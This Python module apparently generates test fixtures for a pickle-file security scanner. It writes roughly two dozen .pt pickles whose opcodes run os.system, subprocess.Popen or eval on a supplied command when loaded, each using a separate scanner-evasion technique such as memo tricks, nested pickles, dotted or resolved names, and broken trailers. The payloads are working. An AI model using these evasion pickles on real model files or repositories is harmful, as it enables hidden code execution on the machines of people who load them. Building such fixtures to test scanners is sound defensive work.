"""Pickles that would run code: one maker a way in which scanners were passed. Made, never loaded.

The payload is `os.system` (by one name or another) on a command that touches a canary file.
"""

from __future__ import annotations

import os
import pickle
from collections.abc import Callable
from pathlib import Path
from typing import Any

Make = Callable[[str], bytes]


class Bomb:
    """Touches a file when it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (self.command,)


def text(value: str) -> bytes:
    """A string as BINUNICODE."""
    data = value.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def reduced(command: str) -> bytes:
    return b"\x80\x02cos\nsystem\n" + text(command) + b"\x85R."


def stack_global(command: str) -> bytes:
    return b"\x80\x04" + text("os") + text("system") + b"\x93" + text(command) + b"\x85R."


def memo_confused(command: str) -> bytes:
    """PUT and MEMOIZE mixed, so that a naive memo holds harmless names (picklescan issue 14)."""
    harmless = text("torch._utils") + b"\x94" + text("_rebuild_tensor_v2") + b"\x94"
    real = text("os") + b"q\x00" + text("system") + b"q\x01"
    return b"\x80\x04" + real + harmless + b"h\x00h\x01\x93" + text(command) + b"\x85R."


def memo_overwritten(command: str) -> bytes:
    """The same memo key twice."""
    names = text("collections") + b"q\x00" + text("os") + b"q\x00"
    return b"\x80\x04" + names + b"h\x00" + text("system") + b"\x93" + text(command) + b"\x85R."


def computed_name(command: str) -> bytes:
    """The module's name comes out of a harmless call."""
    name = b"c_codecs\nencode\n" + text("os") + text("latin1") + b"\x86R"
    return b"\x80\x04" + name + text("system") + b"\x93" + text(command) + b"\x85R."


def instance(command: str) -> bytes:
    return b"(S'" + command.encode() + b"'\nios\nsystem\n."


def instance_object(command: str) -> bytes:
    return b"\x80\x02(cos\nsystem\n" + text(command) + b"o."


def new_object(command: str) -> bytes:
    return b"\x80\x02csubprocess\nPopen\n" + text(command) + b"\x85\x81."


def new_object_with_keywords(command: str) -> bytes:
    words = b"}" + text("args") + text(command) + b"s" + text("shell") + b"\x88s"
    return b"\x80\x04csubprocess\nPopen\n)" + words + b"\x92."


def built(command: str) -> bytes:
    """A state that sets attributes of an allowed object."""
    made = b"ccollections\nOrderedDict\n)R"
    return b"\x80\x02" + made + b"}" + text("items") + text(command) + b"sb."


def extension(command: str) -> bytes:
    return b"\x80\x02\x82\x01" + text(command) + b"\x85R."


def dotted(command: str) -> bytes:
    """A name that leads from an allowed module to another one."""
    return (
        b"\x80\x04"
        + text("torch")
        + text("serialization.os.system")
        + b"\x93"
        + (text(command) + b"\x85R.")
    )


def resolved(command: str) -> bytes:
    """The universal detour of 2026: pkgutil.resolve_name."""
    return (
        b"\x80\x02cpkgutil\nresolve_name\n"
        + text("os:system")
        + b"\x85R"
        + (text(command) + b"\x85R.")
    )


def unlisted(command: str) -> bytes:
    """A function of a library that no deny-list had."""
    return b"\x80\x02ctorch.utils.collect_env\nrun\n" + text(command) + b"\x85R."


def run_and_popped(command: str) -> bytes:
    """The result is thrown away, so that it leaves no trace in a syntax tree."""
    return b"\x80\x02cos\nsystem\n" + text(command) + b"\x85R0}."


def broken_behind(command: str) -> bytes:
    """Damage behind the payload (nullifAI): the file fails to load, after it ran."""
    return reduced(command)[:-1] + b"\xff\xff broken"


def second_pickle(command: str) -> bytes:
    return b"\x80\x02}." + reduced(command)


def nested(command: str) -> bytes:
    """A pickle in a byte string, opened by pickle.loads."""
    inner = reduced(command)
    held = b"B" + len(inner).to_bytes(4, "little") + inner
    return b"\x80\x03cpickle\nloads\n" + held + b"\x85R."


def nested_by_torch(command: str) -> bytes:
    inner = reduced(command)
    held = b"B" + len(inner).to_bytes(4, "little") + inner
    return b"\x80\x03ctorch.storage\n_load_from_bytes\n" + held + b"\x85R."


def old_name(command: str) -> bytes:
    """A name of Python 2, which unpicklers translate."""
    return (
        b"\x80\x02c__builtin__\neval\n"
        + text(f"__import__('os').system({command!r})")
        + (b"\x85R.")
    )


def persistent(command: str) -> bytes:
    """A reference to something that is no storage."""
    return b"\x80\x02(" + text("module") + text(command) + b"tQ."


def called_by_rebuild(command: str) -> bytes:
    """An allowed function that calls what it is given."""
    function = b"ctorch._tensor\n_rebuild_from_type_v2\n"
    return b"\x80\x02" + function + b"(cos\nsystem\n" + text(command) + b"\x85NNtR."


def dumped(protocol: int) -> Make:
    return lambda command: pickle.dumps({"w": Bomb(command)}, protocol)


MAKERS: dict[str, Make] = {
    maker.__name__: maker
    for maker in (
        reduced,
        stack_global,
        memo_confused,
        memo_overwritten,
        computed_name,
        instance,
        instance_object,
        new_object,
        new_object_with_keywords,
        built,
        extension,
        dotted,
        resolved,
        unlisted,
        run_and_popped,
        broken_behind,
        second_pickle,
        nested,
        nested_by_torch,
        old_name,
        persistent,
        called_by_rebuild,
    )
}
MAKERS |= {f"dumped_{protocol}": dumped(protocol) for protocol in range(6)}


def write_all(folder: Path, command: str) -> list[Path]:
    """Each as a file of its own."""
    made = []
    for name, make in MAKERS.items():
        file = folder / f"pickle_{name}.pt"
        file.write_bytes(make(command))
        made.append(file)
    return made
